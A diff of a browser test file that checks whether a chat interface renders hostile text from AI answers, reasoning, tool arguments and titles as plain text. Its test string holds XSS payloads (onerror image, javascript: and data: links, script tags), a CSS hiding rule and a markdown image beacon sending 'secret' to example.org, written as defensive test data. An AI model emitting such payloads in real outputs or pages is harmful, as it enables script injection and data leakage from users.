@@ -16,17 +16,20 @@ from tests.lab.chat import (
 
 pytestmark = [pytest.mark.browser, pytest.mark.kernel]
 
-HOSTILE = "\n\n".join(
-    [
-        '<img src=x onerror="window.__hit=1">',
-        "[ok](javascript:window.__hit=1)",
-        "<svg><script>window.__hit=1</script></svg>",
-        "[docs](https://example.org/a)",
-        "![p](https://example.org/beacon?q=secret)",
-        "<style>body{display:none}</style>",
-        "[data](data:text/html,<script>window.__hit=1</script>)",
-    ]
-)
+HOSTILE = """<img src=x onerror="window.__hit=1">
+
+[ok](javascript:window.__hit=1)
+
+<svg><script>window.__hit=1</script></svg>
+
+[docs](https://example.org/a)
+
+![p](https://example.org/beacon?q=secret)
+
+<style>body{display:none}</style>
+
+[data](data:text/html,<script>window.__hit=1</script>)
+"""
 TOOLS = f'''
 HOSTILE = {HOSTILE!r}
 
@@ -60,7 +63,7 @@ def notebook(lab, lab_tab):
 def test_hostile_text_is_only_text_wherever_it_stands(notebook):
     """F-04: in answers, reasoning, arguments, results, errors, names, reasons and titles."""
     asked: list[str] = []
-    notebook.page.route("https://example.org/**", lambda route: (asked.append(1), route.abort()))
+    notebook.page.route("https://example.org/**", lambda route: (asked.append(route.request.url), route.abort()))
     chat = show_chat(
         notebook,
         "[think(HOSTILE, every=3), say(HOSTILE, every=3), call('echo', {'text': HOSTILE}),"
